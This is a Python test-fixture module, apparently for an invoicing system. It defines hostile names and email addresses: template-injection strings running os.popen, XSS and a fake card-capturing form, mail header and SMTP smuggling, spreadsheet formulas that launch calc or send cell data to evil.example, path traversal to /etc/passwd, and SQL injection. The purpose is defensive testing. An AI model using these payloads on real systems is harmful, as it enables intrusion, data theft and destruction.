"""Customers who attack with what they are called: names, references, numbers and addresses, and what each tries.

Where such text may surface and how it is disarmed there is asked by tests/system/test_hostile_people.py and the tests
of each surface. `VICTIM` must never hear from us because of a name; `FORGED` must never begin a line.
"""

from dataclasses import dataclass
from unicodedata import category

VICTIM = "victim@evil.example"
FORGED = "FORGED"
HUGE = 1_000_000

DIRECTION = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@dataclass(frozen=True)
class Hostile:
    """One text and what it attacks."""

    attacks: str
    text: str


NAMES = (
    Hostile("templates", "{{ 76543 * 98765 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"),
    Hostile("templates", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    Hostile("templates", "${76543*98765} #{76543*98765} <%= 76543*98765 %> %(asked)s {asked}"),
    Hostile("html", '"><script>alert(1)</script>'),
    Hostile("html", "<img src=x onerror=alert(1)>"),
    Hostile("html", "</bdi></p><form action=https://evil.example><input name=card>"),
    Hostile("html", "<!-- <style>* { display: none }"),
    Hostile("headers", f"Eve\r\nBcc: {VICTIM}"),
    Hostile("headers", f"Eve\nBcc: {VICTIM}\n\n{FORGED} body"),
    Hostile("headers", f"Eve\rX-Dun-Stage: final\rBcc: {VICTIM}"),
    Hostile("headers", f"=?utf-8?q?Eve=0D=0ABcc:_{VICTIM}?="),
    Hostile("headers", f'Eve" <{VICTIM}>, "Bob'),
    Hostile("headers", f"a@evil.example>, <{VICTIM}"),
    Hostile("mime", f"Eve\r\n--===============1==\r\nContent-Type: text/html\r\n\r\n{FORGED}"),
    Hostile("smtp", f"Eve\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<{VICTIM}>\r\nDATA\r\n{FORGED}"),
    Hostile("lines", f"Eve\n{FORGED} 2026-03-02: sent 9 final in 9 messages"),
    Hostile("lines", f"Eve\u2028{FORGED}\u2029{FORGED}\x85{FORGED}\x0b{FORGED}\x0c{FORGED}\x1c{FORGED}"),
    Hostile("bidi", "Eve\u202e00.0£ :yap ot tnuomA"),
    Hostile("bidi", "\u2067Eve\u2066 Ltd \u2068\u200f\u200e\u061c"),
    Hostile("bidi", "Eve\u202d\u202b\u202a"),
    Hostile("homoglyphs", "Ηаrbоur Тeѕt Wоrkѕ"),  # noqa: RUF001 - Greek and Cyrillic, that is the attack
    Hostile("homoglyphs", "Z\u0351\u036b\u0343\u036a\u0302\u0348\u030ealgo" + "\u0335" * 500),
    Hostile("spreadsheets", '=HYPERLINK("https://evil.example?"&A1,"click")'),
    Hostile("spreadsheets", "+cmd|' /C calc'!A0"),
    Hostile("spreadsheets", "-2+3+cmd|' /C calc'!A0"),
    Hostile("spreadsheets", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("spreadsheets", "\t=1+1"),
    Hostile("spreadsheets", "\r=1+1"),
    Hostile("spreadsheets", 'Eve",=1+1,"'),
    Hostile("spreadsheets", "Eve;=1+1"),
    Hostile("paths", "../../../../etc/passwd"),
    Hostile("paths", "..\\..\\C:\\Windows\\x:stream"),
    Hostile("paths", "a/b\x00.pdf"),
    Hostile("paths", "n" * 300),
    Hostile("terminals", "\x1b[2J\x1b[1;31mEve\x1b]8;;https://evil.example\x07link\x1b]8;;\x07"),
    Hostile("terminals", "\x9b31mEve\x9d0;title\x9c\x7f\x08\x08\x08"),
    Hostile("terminals", "[bold red]Eve[/] [link=https://evil.example]click[/link] :skull: [/bold]"),
    Hostile("queries", "'; DROP TABLE invoice; --"),
    Hostile("queries", "x' OR DisplayName LIKE '%"),
    Hostile("json", '","state":"paid"}\\u0000\\'),
    Hostile("size", "M" * HUGE),
    Hostile("size", " " * HUGE + "Eve"),
    Hostile("size", "\u202e" * HUGE),
)
"""For every field in which people name themselves or something of theirs."""

SHORT_NAMES = tuple(hostile for hostile in NAMES if len(hostile.text) <= 1000)

ADDRESSES = (
    Hostile("headers", f"eve@evil.example\r\nBcc: {VICTIM}"),
    Hostile("smtp", f"eve@evil.example>\r\nRCPT TO:<{VICTIM}"),
    Hostile("headers", f"eve@evil.example\nX-Dun-Stage: final\n\n{FORGED}"),
    Hostile("lists", "eve@evil.example,bob@evil.example;<carl@evil.example>"),
    Hostile("lists", '"eve@evil.example, bob@evil.example" <carl@evil.example>'),
    Hostile("lists", "eve@evil.example(victim@evil.example)"),
    Hostile("lists", "Friends: eve@evil.example, bob@evil.example;"),
    Hostile("quotes", '"eve\\"@evil.example"@evil.example'),
    Hostile("routes", "<@relay.example,@other.example:eve@evil.example>"),
    Hostile("routes", "eve%evil.example@relay.example"),
    Hostile("unicode", "eve\uff20evil.example"),
    Hostile("unicode", "eve@ev\u0456l.example"),
    Hostile("unicode", "eve\u202e@evil.example\u200b"),
    Hostile("unicode", "eve@evil\u3002example"),
    Hostile("control", "eve\x00@evil.example"),
    Hostile("size", "e" * HUGE + "@evil.example"),
    Hostile("size", "eve@" + "x." * (HUGE // 2) + "example"),
    Hostile("size", "eve@" + "\u00fc" * HUGE + ".example"),
    Hostile("size", ", ".join(f"{number}@evil.example" for number in range(50_000))),
    Hostile("size", '"' * HUGE),
    Hostile("size", "@/" * (HUGE // 2)),
)


def commanding(text: str) -> set[str]:
    """The characters in `text` that a terminal obeys or that reverse the reading order; line ends are none."""
    return {one for one in text if (category(one) in {"Cc", "Zl", "Zp"} and one != "\n") or one in DIRECTION}


def forged_lines(text: str) -> list[str]:
    """The lines that somebody's name has made up."""
    return [line for line in text.splitlines() if line.startswith((FORGED, "Bcc:", "X-Dun-Stage: final"))]
